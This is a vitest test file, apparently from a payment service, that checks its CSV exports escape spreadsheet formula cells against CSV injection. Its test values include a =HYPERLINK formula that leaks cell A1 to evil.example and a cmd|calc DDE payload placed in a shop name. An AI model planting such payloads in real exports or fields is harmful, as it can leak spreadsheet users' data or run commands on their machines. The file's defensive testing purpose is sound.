import { Decimal } from 'decimal.js';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ADMIN_TOKEN, setupTestApp, type TestApp } from '../helpers/app.js';
import { cardForm, payRequest } from '../factories/payment.js';
import { csvCell } from '../../src/lib/csv-cell.js';
import { cabinetMerchant, signedIn, type CabinetClient, type CabinetMerchant } from './helpers.js';

/**
 * Issue 27: every CSV export neutralizes a cell a spreadsheet would run as a formula (OWASP CSV
 * injection: a leading `=`, `+`, `-`, `@`, tab or CR gets a `'`): a payer's e-mail
 * `=HYPERLINK(...)`, a shop name, an order id. A plain decimal (a debit `-100.00`) stays a number
 * (docs/adr/0050-security-hardening.md).
 */
const EVIL_EMAIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")@x.io';
const EVIL_SHOP = '@SUM(1+1)*cmd|\' /C calc\'!A0';

let t: TestApp;
let m: CabinetMerchant;
let c: CabinetClient;
let paymentId: string;
beforeAll(async () => {
  t = await setupTestApp();
  m = await cabinetMerchant(t, { merchant: { verified: true, grantRefunds: true } });
  c = await signedIn(t, m);
  await t.db.pool.query('UPDATE shops SET name = $2 WHERE id = $1', [m.shopId, EVIL_SHOP]);
  // The payer types the e-mail on our payment page (the bill asks for it).
  const bill = await t.app.services.bills.create({ id: m.merchantId }, { amount: new Decimal('500.00'), shopId: m.shopId, orderId: '+79990001122', requestFields: ['email'] });
  const r = await payRequest(t, bill.id, { ...cardForm(), payer_email: EVIL_EMAIL });
  expect(r.statusCode, r.body).toBe(200);
  paymentId = r.json().payment_id;
  // A debit on the statement: a refund locks part of available.
  const rf = await t.app.inject({ method: 'POST', url: '/api/v1/refund/partial/create', headers: m.auth, payload: { payment_id: paymentId, amount: '100' } });
  expect(rf.statusCode, rf.body).toBe(200);
});
afterAll(async () => { await t.close(); });

const csvLines = async (url: string) => (await c.get(url)).body.replace(/^\uFEFF/, '').trim().split('\r\n');

describe('cabinet CSV exports neutralize formula cells', () => {
  test("the payments CSV: the payer's =HYPERLINK e-mail, the @ shop name and the + order id come out prefixed with '", async () => {
    const row = (await csvLines('/cabinet/payments/export.csv?lang=en')).find((l) => l.startsWith(`${paymentId},`))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")@x.io"`);
    expect(row).toContain(`'${EVIL_SHOP}`);
    expect(row).toContain(",'+79990001122,");
    expect(row).not.toMatch(/,=HYPERLINK|,"=HYPERLINK|,@SUM/);
    expect(row).toContain(',500.00,500.00,RUB,');
  });

  test('the refunds CSV: the shop name and order id prefixed', async () => {
    const row = (await csvLines('/cabinet/payments/refunds/export.csv?lang=en')).find((l) => l.includes(paymentId))!;
    expect(row).toContain(`'${EVIL_SHOP}`);
    expect(row).toContain(",'+79990001122,");
  });

  test('the statement CSV: a debit stays a plain number with two places (-100.00, -100,00 in Russian)', async () => {
    const en = (await csvLines('/cabinet/statement.csv?lang=en')).join('\n');
    expect(en).toMatch(/,-100\.00,RUB,/);
    expect(en).not.toContain("'-100");
    const ru = (await csvLines('/cabinet/statement.csv?lang=ru')).join('\n');
    expect(ru).toMatch(/;-100,00;RUB;/);
  });
});

describe('the audit CSV (operator API and console) neutralizes too', () => {
  test('a shop renamed to a formula by its merchant is prefixed in /admin/v1/audit.csv', async () => {
    const r = await t.app.inject({ method: 'PATCH', url: `/admin/v1/shops/${m.shopId}`, headers: { authorization: `Bearer ${ADMIN_TOKEN}` }, payload: { name: '=1+2' } });
    expect(r.statusCode, r.body).toBe(200);
    const csv = await t.app.inject({ method: 'GET', url: `/admin/v1/audit.csv?object_id=${m.shopId}`, headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
    expect(csv.body).toContain('admin-token');
    // The JSON cell starts with {, so it is not a formula; the actor and ids are plain.
    expect(csv.body).not.toMatch(/(^|,)=1\+2/m);
  });
});

describe('csvCell', () => {
  test.each([
    ['=1+2', "'=1+2"], ['+1', "'+1"], ['-1+2', "'-1+2"], ['@A1', "'@A1"], ['\tx', "'\tx"], ['\rx', "'\rx"],
    ['-', "'-"], ['-1e5', "'-1e5"], ['-100.00', '-100.00'], ['-1,5', '-1,5'], ['100.00', '100.00'], ['a=b', 'a=b'], ['', ''],
  ])('%j -> %j', (given, expected) => { expect(csvCell(given)).toBe(expected); });
});
